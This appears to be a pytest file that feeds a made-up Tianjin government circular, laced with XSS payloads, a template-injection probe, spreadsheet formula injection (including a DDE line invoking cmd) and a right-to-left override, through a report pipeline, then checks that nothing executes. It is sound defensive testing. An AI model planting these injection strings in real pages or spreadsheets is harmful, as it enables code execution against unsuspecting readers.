"""A circular that attacks its reader, through the whole pipeline: nothing runs, and all of it shows as text."""

import csv
import html
import re
import shutil

import pytest

from browser import chromium, listen, outside
from small_project import SmallProject, both_languages

pytestmark = [pytest.mark.browser, pytest.mark.pipeline]

TITLE = "天津市人民政府办公厅关于2020年第一季度<script>window.owned=1</script>政府网站抽查情况的通报"
ATTACKS = [
    '</script></td></table><img src=x onerror="window.owned=2">',
    "<svg onload=window.owned=3>",
    '<a href="javascript:window.owned=4">河西区</a>',
    '<b onmouseover="window.owned=5">',
    "{{ 7*7 }}<!-- stamp of the build -->",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"><img src=x onerror=window.owned=7>',
    "<style>@import",
    "<script>window.owned=8</script>",
]
"""Pieces that belong to the document and must be read in the restored text of its page."""
CIRCULAR = f"""{TITLE}
津政办函〔2020〕9号

各区人民政府，市政府各部门：
市政府办公厅组织开展了2020年第一季度政府网站抽查。此次共随机抽查政府网站100个，抽查合格率为98%。{ATTACKS[0]}
和平区{ATTACKS[1]}、河东区\u202e格合\u202c和{ATTACKS[2]}3区抽查合格率为100%。{ATTACKS[4]}
一、检查结果
以下单位的网站被评为不合格：市{ATTACKS[3]}水务局、=HYPERLINK("http://example.invalid/","看")、市商务局。
附件：检查结果表
序号 | 单位 | 网站名称 | 等次 |
1 | =HYPERLINK("http://example.invalid/?"&A1,"点此") | {ATTACKS[5]} | 优秀 |
2 | {ATTACKS[6]} | +市商务局 | 不合格 |
3 | {ATTACKS[8]} | 首页 登录 | 合格 |
4 | 市财政局 | {ATTACKS[6]} | 优秀 |

天津市人民政府办公厅
2020年4月20日
{ATTACKS[7]} "http://example.invalid/x.css";
"""
NAME = "hostile-2020"


@pytest.fixture(scope="module")
def attacked(first_build, tmp_path_factory) -> SmallProject:
    """The built project with the hostile circular added; what did not change comes from the page cache."""
    root = tmp_path_factory.mktemp("hostile") / "project"
    shutil.copytree(first_build.root, root, symlinks=True)
    (root / f"data/raw/{NAME}.txt").write_text(CIRCULAR, "utf-8")
    project = SmallProject(root)
    assert project.repro() == ["restore", "extract", "tidy", "analyse", "report", "evaluate"]
    return project


def test_a_new_circular_rebuilds_only_the_pages_that_depend_on_it(attacked):
    wholes = {"index", "data-quality", "codebook"}  # they speak of all circulars
    themes = {f"themes/{name}" for name in ("grade_shares", "pass_rate_trends")}
    assert attacked.rendered() == both_languages(wholes | themes | {"provinces/120000", f"circulars/{NAME}"})


def test_nothing_runs_and_nothing_is_asked_for_on_any_page(attacked):
    reports = attacked.root / "reports"
    names = set()
    with chromium() as browser:
        page = browser.new_page()
        requests, messages = listen(page)
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in sorted(reports.rglob("*.html")):
            name = path.relative_to(reports).as_posix()
            names.add(name)
            requests.clear()
            page.goto(path.as_uri())
            page.mouse.move(300, 300)
            assert page.evaluate("window.owned") is None, name
            assert page.evaluate("[...document.scripts].every(s => s.parentNode === document.body)"), name
            assert page.locator("iframe, object, embed, main style, main svg, main script, [onerror]").count() == 0, (
                name
            )
            assert page.locator("a[href^='javascript' i]").count() == 0, name
            assert (outside(requests, path), messages, dialogs) == ([], [], []), name
    assert {f"{folder}circulars/{NAME}.html" for folder in ("", "zh/")} <= names
    assert {f"{folder}provinces/120000.html" for folder in ("", "zh/")} <= names


@pytest.mark.parametrize("folder", ["", "zh/"])
def test_title_body_and_table_show_as_text(attacked, folder):
    def shown(name: str) -> str:
        text = (attacked.root / f"reports/{folder}{name}.html").read_text("utf-8")
        assert "\u202e" not in text
        return html.unescape(re.sub(r"<[^>]*>", "", text.split("<main")[1]))

    page = re.sub(r"\s", "", shown(f"circulars/{NAME}"))
    for part in [TITLE, *ATTACKS]:
        assert re.sub(r"\s", "", part) in page, part
    assert "[U+202E]" in page and "=HYPERLINK（" in page
    for other in ("index", "provinces/120000"):
        assert "<script>window.owned=1</script>" in shown(other), other


def test_no_cell_of_a_table_starts_a_formula(attacked):
    cells = 0
    for path in sorted((attacked.root / "reports/data").glob("*.csv")):
        assert path.read_bytes() == (attacked.root / "data/tidy" / path.name).read_bytes()
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    cells += 1
                    assert not re.match(r"\s*[=+\-@＝＋－＠](?=.)", cell) or re.fullmatch(r"[<>]=|-[\d.]+", cell), cell
                    assert "\u202e" not in cell
    assert cells > 1000
    titles = (attacked.root / "reports/data/circulars.csv").read_text("utf-8-sig")
    assert "<script>window.owned=1</script>" in titles  # kept as it is printed, as text
